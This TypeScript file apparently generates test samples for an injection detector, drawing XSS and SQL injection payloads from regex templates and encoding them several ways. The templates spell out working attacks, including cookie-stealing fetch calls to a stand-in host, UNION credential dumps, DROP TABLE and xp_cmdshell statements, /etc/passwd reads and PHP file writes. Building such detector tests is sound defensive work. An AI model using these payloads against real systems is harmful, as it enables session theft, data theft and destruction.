import type { Injection } from "../../src/library/injection-detection/injection-rule.ts";
import { drawn } from "./draw.ts";

/** A payload with its kind and technique. */
export interface PayloadSample {
  readonly kind: Injection;
  readonly form: string;
  readonly text: string;
}

const SHOW = String.raw`(?:alert|prompt|confirm)(?:\((?:1|document.domain|document.cookie)\)|` + "`[0-9]`)";
const QUOTE = `["']`;
const EVENT =
  "on(?:load|error|focus|blur|toggle|mouseover|mouseenter|pointerdown|animationend|begin|start|wheel|copy|hashchange|pageshow|input)";
const TAG = "(?:img src=x|svg|body|video|audio src|details open|input autofocus|marquee|iframe|object|select|x|math)";
const GAP = "(?: |/| / |\t)";

/** Techniques of cross-site scripting, grouped as in cheat sheets. */
const XSS: Readonly<Record<string, string>> = {
  "a script": String.raw`(?:|"|'|">|'>|</title>|</textarea>)<(?:script|ScRiPt|SCRIPT)>${SHOW}</(?:script|SCRIPT)>`,
  "a script from elsewhere": `<script src=(?:data:text/javascript,|//[a-z]{3,9}.(?:test|example)/)[a-z]{1,5}(?:.js|)`,
  "a handler": `<${TAG}${GAP}${EVENT}=${SHOW}>`,
  "a handler in quotes": `<${TAG}${GAP}${EVENT}=(?:"${SHOW}"|'${SHOW}')>`,
  "a handler that sends": String.raw`<${TAG}${GAP}${EVENT}="fetch\('//[a-z]{4,9}.test/'[+]document.cookie\)">`,
  "out of an attribute": `(?:"|')(?: | autofocus )${EVENT}=${QUOTE}${SHOW}`,
  "out of a script": String.raw`(?:'|"|\\'|\\")[;,*+-]${SHOW}(?://|[;*+-]['"])`,
  "a link": `<a href=(?:"|'|)(?:javascript|JavaScript|JAVASCRIPT):${SHOW}`,
  "a link of Markdown": String.raw`\[[a-z]{2,8}\]\((?:javascript|jAvAsCrIpT):${SHOW}\)`,
  "a form": `<form(?:>|><)(?:button|input type=submit) formaction=(?:"|)javascript:${SHOW}`,
  "a page in an address":
    "<(?:iframe|object|embed) (?:src|data)=(?:\"|')data:text/html(?:;base64|),[A-Za-z0-9+/]{12,40}",
  "a page in an attribute": String.raw`<iframe srcdoc=(?:"|')(?:<|&lt;)(?:script|img src=x onerror=${SHOW})`,
  "an animation": `<svg><(?:animate|set) attributeName=(?:href|onload|onmouseover|xlink:href) (?:to|values)=(?:javascript:|)${SHOW}`,
  "a refresh": `<meta http-equiv=(?:"|)refresh(?:"|) content=(?:"|')0;(?: |)url=(?:javascript:${SHOW}|data:text/html,)`,
  "a style": String.raw`<(?:div|p|x) style=(?:"|')[a-z]{3,6}:(?: |)expression\(${SHOW}\)`,
};

const N = "[1-9][0-9]{0,2}";
const END = "(?:--|-- |--[+]|#|/[*])";
const CLOSE = String.raw`(?:'|"|'\)|"\)|'\)\)|[0-9]{1,3})`;
const B = "(?: |/[*][*]/|[+]|%20)";
const WAIT = String.raw`(?:sleep\([1-9]\)|pg_sleep\([1-9]\)|benchmark\([1-9]000000,md5\(1\)\)|dbms_pipe.receive_message\('a',[1-9]\))`;
const TOLD = "(?:user|version|database)";

/** Techniques of SQL injection, grouped as in handbooks for testers. */
const SQL: Readonly<Record<string, string>> = {
  "always true": String.raw`${CLOSE}${B}(?:or|OR|and|AND)${B}(?:1=1|7=7|1=2|2>1|'a'='a'|"x"="x"|3 like 3|true)${END}`,
  "always true, open": `[a-z]{0,5}'${B}(?:or|OR)${B}'[a-z1]'='[a-z1]`,
  "a comment": `(?:admin|root|administrator)(?:'|")${B}${END}`,
  "a union": `${CLOSE}${B}(?:union|UNION)${B}(?:all${B}|ALL${B}|)(?:select|SELECT)${B}(?:null,null,null|1,2,[a-z]{3,8}|@@version,1|concat\\(user,0x3a,password\\))`,
  "a union from a table": `'${B}union${B}select${B}[a-z]{4,8},[a-z]{4,8}${B}from${B}[a-z]{4,8}${END}`,
  "a statement behind": `(?:'|")(?:|\\));(?: |)(?:drop table [a-z]{3,9}|exec xp_cmdshell 'dir'|insert into [a-z]{3,9} values\\(1\\)|update [a-z]{3,9} set a=1|shutdown)${END}`,
  "a wait": `${CLOSE}${B}(?:and|or|AND|OR)${B}${WAIT}(?:${END}|)`,
  "a wait of MSSQL": `${CLOSE}(?:;|${B})(?:waitfor|WAITFOR)${B}(?:delay|DELAY)${B}'0:0:[1-9]'(?:${END}|)`,
  "a wait in a question": `${CLOSE}${B}and${B}if\\((?:substring\\(${TOLD}\\(\\),1,1\\)=[1-9]|1=1),sleep\\([1-9]\\),0\\)`,
  "an error that tells": `${CLOSE}${B}and${B}(?:extractvalue\\(${N},concat\\(0x7e,${TOLD}\\(\\)\\)\\)|updatexml\\(${N},concat\\(0x3a,${TOLD}\\(\\)\\),1\\)|exp\\(~\\(select${B}[*]${B}from)`,
  "a question letter by letter": `${CLOSE}${B}and${B}(?:ascii|ord)\\((?:substr|substring|mid)\\(\\(select${B}[a-z]{3,9}${B}from${B}[a-z]{3,9}`,
  "a question about the schema": `${CLOSE}${B}and${B}\\(select${B}count\\([*]\\)${B}from${B}(?:information_schema.tables|sysobjects|all_tables|sqlite_master)\\)>${N}`,
  "how many columns": `${CLOSE}${B}(?:order|ORDER)${B}(?:by|BY)${B}${N}${END}`,
  "a file": String.raw`(?:union select load_file\('/etc/passwd'\)|into outfile '/[a-z]{3,5}/[a-z]{3}.php'|load_file\(0x[0-9a-f]{16}\))`,
  "out of the database": String.raw`'\|\|(?:utl_http.request|utl_inaddr.get_host_address)\('[a-z]{4,9}.test'\)\|\|'`,
};

const percented = (text: string): string => text.replaceAll(/[^\w.-]/g, (sign) => encodeURIComponent(sign));
const escaped = (text: string): string =>
  text.replaceAll(/[<>"'&=()]/g, (sign) => String.raw`\u${sign.charCodeAt(0).toString(16).padStart(4, "0")}`);
const referenced = (text: string): string => text.replaceAll(/[<>"'=()]/g, (sign) => `&#${sign.charCodeAt(0)};`);

/** Encodings of a payload. */
const WRITTEN: Readonly<Record<string, (text: string) => string>> = {
  plain: (text) => text,
  "in a sentence": (text) => `Put this into the field: ${text}`,
  percent: percented,
  "JSON escapes": escaped,
  references: referenced,
  base64: btoa,
};

const EACH = 4;

const samplesOf = (kind: Injection, forms: Readonly<Record<string, string>>): readonly PayloadSample[] =>
  Object.entries(forms).flatMap(([form, pattern], at) =>
    Object.entries(WRITTEN).flatMap(([way, write], place) =>
      drawn(pattern, EACH, 100 * at + place).map((text) => ({ kind, form: `${form}, ${way}`, text: write(text) })),
    ),
  );

export const payloadSamples = (): readonly PayloadSample[] => [...samplesOf("sqli", SQL), ...samplesOf("xss", XSS)];
